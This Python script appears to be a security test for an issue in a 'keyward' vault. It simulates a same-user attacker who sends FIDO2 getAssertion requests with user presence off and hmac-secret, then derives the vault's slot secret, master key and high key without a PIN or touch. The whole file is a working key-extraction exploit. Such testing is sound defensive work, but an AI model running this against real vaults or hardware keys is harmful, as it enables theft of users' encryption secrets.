#!/usr/bin/python3
"""The same-user attacker of issue 12, written without any keyward code: read access to the vault
file and to the FIDO2 keys, no PIN, no touch. For every FIDO2 slot of the vault it sends a CTAP2
getAssertion with up=false and the hmac-secret extension (python-fido2 0.9.1, an independent
client) for the slot's credential id and salt, then follows docs/format-vault.md's key schedule
(PyNaCl = libsodium, `cryptography` for HKDF) as far as the answer allows: KEK_fido2, the slot
secret p, the wraps of M and H, and H checked against the header's C_high.

usage: fido_attack.py VAULT.db SOCKET [SOCKET...]
Prints one JSON object per line, one per FIDO2 slot:
  {"slot": N, "label": ..., "uv": 1|2|3, "cred_protect": 2|3, "flags": F, "holds_high": bool,
   "answer": "none" | "hmac-secret" | "ctap error 0x.." , "up_flag": bool,
   "slot_secret": bool, "master": bool, "high": bool}
"high": true means the attack derived the vault's high key (C_high matched).
"""
import hashlib
import json
import os
import sqlite3
import struct
import sys

import nacl.bindings as sodium
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.kdf.hkdf import HKDF
from fido2.ctap import CtapError
from fido2.ctap2.extensions import HmacSecretExtension

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "hwsim"))
from fido_common import open_ctap  # noqa: E402


def hkdf(ikm, salt, info):
    return HKDF(algorithm=hashes.SHA256(), length=32, salt=salt, info=info).derive(ikm)


def aead_open(key, blob, aad):
    """XChaCha20-Poly1305 (libsodium ietf): nonce(24) || ciphertext || tag(16)."""
    try:
        return sodium.crypto_aead_xchacha20poly1305_ietf_decrypt(blob[24:], aad, blob[:24], key)
    except Exception:
        return None


class Reader:
    def __init__(self, b):
        self.b, self.i = b, 0

    def take(self, n):
        if self.i + n > len(self.b):
            raise ValueError("truncated")
        v = self.b[self.i:self.i + n]
        self.i += n
        return v

    def u8(self):
        return self.take(1)[0]

    def u16(self):
        return struct.unpack(">H", self.take(2))[0]

    def u32(self):
        return struct.unpack(">I", self.take(4))[0]


def parse_slot(body):  # docs/format-vault.md 5.1
    r = Reader(body)
    assert r.take(4) == b"KWVS" and r.u8() == 1
    s = {"type": r.u8(), "flags": r.u8()}
    s["label"] = r.take(r.u16()).decode()
    s["P"] = r.take(32)
    s["params"] = r.take(r.u32())
    s["wrapped_master"] = r.take(r.u16())
    s["wrapped_high"] = r.take(r.u16())
    return s


def parse_fido2(params):  # docs/format-vault.md 5.3, fido2 (5)
    r = Reader(params)
    assert r.u8() == 1
    f = {"uv": r.u8(), "cred_protect": r.u8()}
    f["rp_id"] = r.take(r.u8()).decode()
    f["cred_id"] = r.take(r.u16())
    f["salt"] = r.take(32)
    f["pub"] = r.take(65)
    f["prefix"] = params[:r.i]
    f["sealed"] = r.take(72)
    return f


def unwrap(p, P, vid, slot_type, which, which_byte, wrapped):  # 5.2
    E = wrapped[:32]
    ss = sodium.crypto_scalarmult(p, E)
    kek = hkdf(ss, E + P + vid, b"keyward/vault/v1/wrap/" + which)
    aad = b"keyward/vault/v1/slot-wrap" + bytes([slot_type, which_byte]) + vid
    return aead_open(kek, wrapped[32:], aad)


def attack(slot_no, s, vid, c_high, sockets):
    f = parse_fido2(s["params"])
    out = {"slot": slot_no, "label": s["label"], "uv": f["uv"], "cred_protect": f["cred_protect"],
           "flags": s["flags"], "holds_high": len(s["wrapped_high"]) > 0, "answer": "none",
           "up_flag": False, "slot_secret": False, "master": False, "high": False}
    hmac_out = None
    for sock in sockets:
        ctap, conn = open_ctap(sock)
        try:
            ext = HmacSecretExtension(ctap)
            req = {"hmac-secret": ext.process_get_input({"hmacGetSecret": {"salt1": f["salt"]}})}
            resp = ctap.get_assertion(f["rp_id"], os.urandom(32),
                                      [{"type": "public-key", "id": f["cred_id"]}], req,
                                      {"up": False})
            out["up_flag"] = bool(resp.auth_data.flags & 0x01)
            got = ext.process_get_output(resp.auth_data)
            if got:
                hmac_out = got["hmacGetSecret"]["output1"]
                out["answer"] = "hmac-secret"
            break
        except CtapError as e:
            out["answer"] = "ctap error 0x%02x" % e.code
        finally:
            conn.close()
    if hmac_out is None:
        return out
    kek = hkdf(hmac_out, f["salt"], b"keyward/vault/v1/fido2")
    aad_p = b"keyward/vault/v1/slot-secret" + bytes([5]) + vid + s["P"] + f["prefix"]
    p = aead_open(kek, f["sealed"], aad_p)
    if p is None or sodium.crypto_scalarmult_base(p) != s["P"]:
        return out
    out["slot_secret"] = True
    out["master"] = unwrap(p, s["P"], vid, 5, b"master", 1, s["wrapped_master"]) is not None
    if s["wrapped_high"]:
        h = unwrap(p, s["P"], vid, 5, b"high", 2, s["wrapped_high"])
        if h is not None and c_high is not None:
            out["high"] = hkdf(h, vid, b"keyward/vault/v1/high-check") == c_high
    return out


def main():
    vault, sockets = sys.argv[1], sys.argv[2:]
    db = sqlite3.connect("file:%s?mode=ro" % vault, uri=True)
    header = db.execute("SELECT body FROM header WHERE id = 1").fetchone()[0]
    assert header[:4] == b"KWVH"
    vid = header[5:21]
    c_high = header[102:134] if header[101] == 1 else None
    for number, body in db.execute("SELECT id, body FROM slots ORDER BY id"):
        s = parse_slot(body)
        if s["type"] == 5:
            print(json.dumps(attack(number, s, vid, c_high, sockets)), flush=True)


if __name__ == "__main__":
    main()
